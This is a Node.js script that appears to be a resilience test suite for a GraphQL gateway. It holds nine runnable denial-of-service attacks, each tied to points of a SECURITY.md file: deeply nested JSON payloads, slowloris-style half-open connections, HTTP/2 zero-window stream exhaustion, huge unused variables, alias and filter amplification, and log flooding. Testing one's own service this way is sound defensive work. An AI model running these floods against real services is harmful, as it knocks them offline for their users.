// What one caller can do to hold up the others. Run as a program, does one of these until it is killed.
// Usage: attacks.mjs NAME ADDRESS AUTHORIZATION

import { connect as connectHttp2 } from "node:http2";
import { connect } from "node:net";
import { fileURLToPath } from "node:url";
import { WebSocket } from "ws";
import { pause } from "./processes.mjs";

const MIB = 1 << 20;

/** A request in the bytes of HTTP/1.1, after which the server closes. */
function request({ method = "POST", path = "/graphql", headers = {}, body = "" }) {
  const all = { host: "gateway", connection: "close", ...headers };
  if (body) Object.assign(all, { "content-type": "application/json", "content-length": Buffer.byteLength(body) });
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  return Buffer.from(`${method} ${path} HTTP/1.1\r\n${head.join("")}\r\n${body}`);
}

/** Sends something over one connection; over when the server closes, or after so many milliseconds. */
function once(address, bytes, leaveAfter) {
  const [host, port] = address.split(":");
  return new Promise((resolve) => {
    const socket = connect({ host, port, noDelay: true });
    let leaving;
    socket.on("connect", () => {
      socket.write(bytes);
      if (leaveAfter !== undefined) leaving = setTimeout(() => socket.destroy(), leaveAfter);
    });
    socket.on("data", () => {});
    socket.on("error", () => {});
    socket.on("close", () => {
      clearTimeout(leaving);
      resolve();
    });
  });
}

/** Sends each of these requests again and again, over so many connections. */
function flood(address, all, connections, leaveAfter) {
  return Promise.all(Array.from({ length: connections }, async (_, number) => {
    for (let turn = number; ; turn += 1) {
      await once(address, all[turn % all.length], leaveAfter);
      // Where nobody listens any more, the processors are left to others.
      await pause(1);
    }
  }));
}

/** Opens so many connections that send something and no more, and opens each anew that is closed. */
const occupy = (address, bytes, connections) => flood(address, [bytes], connections);

/** Opens a WebSocket again and again, and does something with it. */
async function sockets(address, headers, use) {
  for (;;) {
    await new Promise((resolve) => {
      const socket = new WebSocket(`ws://${address}/graphql`, "graphql-transport-ws", { headers, perMessageDeflate: false });
      socket.on("open", () => use(socket));
      socket.on("error", resolve);
      socket.on("close", resolve);
    });
    await pause(100);
  }
}

const nested = (value, depth) => `${"[".repeat(depth)}${value}${"]".repeat(depth)}`;

/** JSON that a library reads anew at each level, where it counts the depth from the start. */
function anew(levels) {
  let text = "1";
  for (let level = 0; level < levels; level += 1) {
    text = nested(`{"$serde_json::private::RawValue":${JSON.stringify(text)}}`, 120);
  }
  return text;
}

const keyed = (depth) => `${'{"$serde_json::private::Number":'.repeat(depth)}"1"${"}".repeat(depth)}`;
const deep = [anew(8), anew(10), keyed(300), nested("", 5000)];
const numbers = (bytes) => `[${"1,".repeat(bytes / 2 - 1)}1]`;
const query = (text, variables) => JSON.stringify({ query: text, variables });

/** Ids that may be there: what is not found costs less, so the first asks which there are. */
async function ids(address, authorization, count) {
  const text = `{ callRecords(first: ${count}) { nodes { id } } }`;
  const headers = { authorization, "content-type": "application/json" };
  const answer = await fetch(`http://${address}/graphql`, { method: "POST", headers, body: query(text) });
  return (await answer.json()).data.callRecords.nodes.map(({ id }) => id);
}

const MEDIA = "media { label streams { streamId averageJitter averagePacketLossRate audioCodec } }";
const EVERYTHING = `sessions { nodes { id segments { nodes { id ${MEDIA} } } } } participants_v2 { nodes { id } }`;

/** The attacks: the point of SECURITY.md that each tries, in words, and what it does. */
export const ATTACKS = [
  {
    name: "deep",
    says: "sends JSON that nests in variables, tokens and before `connection_init`",
    run: async (address, authorization) => {
      const bodies = deep.map((value) => request({ headers: { authorization }, body: `{"query":"{ __typename }","variables":{"v":${value}}}` }));
      const gets = deep.map((value) => request({ method: "GET", path: `/graphql?query=%7B__typename%7D&variables=${encodeURIComponent(`{"v":${value}}`)}`, headers: { authorization } }));
      const tokens = deep.map((value) => {
        const part = Buffer.from(value).toString("base64url");
        return request({ headers: { authorization: `Bearer ${part}.${part}.AAAA` }, body: query("{ __typename }") });
      });
      const early = (socket) => deep.forEach((value) => socket.send(value));
      await Promise.all([flood(address, [...bodies, ...gets, ...tokens], 8), sockets(address, {}, early)]);
    },
  },
  {
    name: "entities",
    says: "asks for entities with all that hangs on them",
    run: async (address, authorization) => {
      const found = await ids(address, authorization, 1000);
      const representations = found.map((id) => ({ __typename: "CallRecord", id }));
      const text = `query ($r: [_Any!]!) { _entities(representations: $r) { ... on CallRecord { id ${EVERYTHING} } } }`;
      await flood(address, [request({ headers: { authorization }, body: query(text, { r: representations }) })], 4);
    },
  },
  {
    name: "values",
    says: "sends a mebibyte of numbers that nothing asks for, and has a hundred subscriptions keep them",
    run: async (address, authorization) => {
      const body = `{"query":"{ __typename }","variables":{"unused":${numbers(MIB - 100)}}}`;
      const keep = (socket) => {
        socket.send(JSON.stringify({ type: "connection_init", payload: { authorization } }));
        socket.on("message", (text) => {
          if (JSON.parse(text).type !== "connection_ack") return;
          for (let id = 0; id < 100; id += 1) {
            const payload = `{"query":"subscription { callRecordChanged { cursor } }","variables":{"unused":${numbers(MIB - 1000)}}}`;
            socket.send(`{"type":"subscribe","id":"${id}","payload":${payload}}`);
          }
        });
      };
      await Promise.all([flood(address, [request({ headers: { authorization }, body })], 8), sockets(address, {}, keep)]);
    },
  },
  {
    name: "connections",
    says: "opens 2,000 connections and says nothing, or half of something",
    run: (address, authorization) => {
      const half = request({ headers: { authorization }, body: query("{ __typename }") }).subarray(0, -5);
      return Promise.all([occupy(address, "", 700), occupy(address, "GET /graphql HT", 700), occupy(address, half, 600)]);
    },
  },
  {
    name: "windows",
    says: "asks over HTTP/2 and takes nothing of the answers",
    run: (address, authorization) => Promise.all(Array.from({ length: 50 }, async () => {
      for (;;) {
        await new Promise((resolve) => {
          const session = connectHttp2(`http://${address}`, { settings: { initialWindowSize: 0 } });
          session.on("error", resolve);
          session.on("close", resolve);
          session.on("connect", () => {
            for (let stream = 0; stream < 200; stream += 1) {
              const sent = session.request({ ":method": "POST", ":path": "/graphql", "content-type": "application/json", authorization });
              sent.on("error", () => {});
              sent.end(query(`{ callRecords(first: 1000) { nodes { id ${EVERYTHING} } } }`));
            }
          });
        });
        await pause(100);
      }
    })),
  },
  {
    name: "filters",
    says: "filters by 290 conditions on sessions, and stays or leaves",
    run: (address, authorization) => {
      const conditions = Array.from({ length: 290 }, (_, number) => `{ sessions: { some: { startDateTime: { gt: "2026-01-01T00:00:${String(number % 60).padStart(2, "0")}Z" } } } }`);
      const body = query(`{ callRecords(filter: { and: [${conditions.join(" ")}] }) { totalCount nodes { id } } }`);
      const one = [request({ headers: { authorization }, body })];
      return Promise.all([flood(address, one, 8), flood(address, one, 8, 20)]);
    },
  },
  {
    name: "upgrades",
    says: "sends PUTs that upgrade to WebSockets, without a token and with bodies",
    run: (address) => {
      const headers = { upgrade: "websocket", connection: "upgrade", "sec-websocket-version": "13", "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==" };
      const all = ["PUT", "POST", "DELETE"].map((method) => request({ method, headers, body: query("{ __typename }", { unused: "x".repeat(MIB / 2) }) }));
      // The upgrade keeps the connection.
      return flood(address, all, 32, 200);
    },
  },
  {
    name: "log",
    says: "has lines logged that nobody reads",
    unread: true,
    run: (address, authorization) => {
      const bad = request({ headers: { authorization }, body: query(`query ${"N".repeat(64)} { nothing }`) });
      return flood(address, [bad], 16);
    },
  },
  {
    name: "bytes",
    says: "asks a hundred times over for a text of a mebibyte",
    run: async (address, authorization) => {
      const aliases = Array.from({ length: 90 }, (_, number) => `a${number}: joinWebUrl`).join(" ");
      const text = `{ callRecords(first: 1000) { nodes { ${aliases} } } }`;
      const by = `{ callRecords(first: 5, filter: { joinWebUrl: { startsWith: "xxxx" } }) { nodes { ${aliases} } } }`;
      await flood(address, [text, by].map((each) => request({ headers: { authorization }, body: query(each) })), 8);
    },
  },
];

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [name, address, authorization] = process.argv.slice(2);
  await ATTACKS.find((attack) => attack.name === name).run(address, authorization);
}
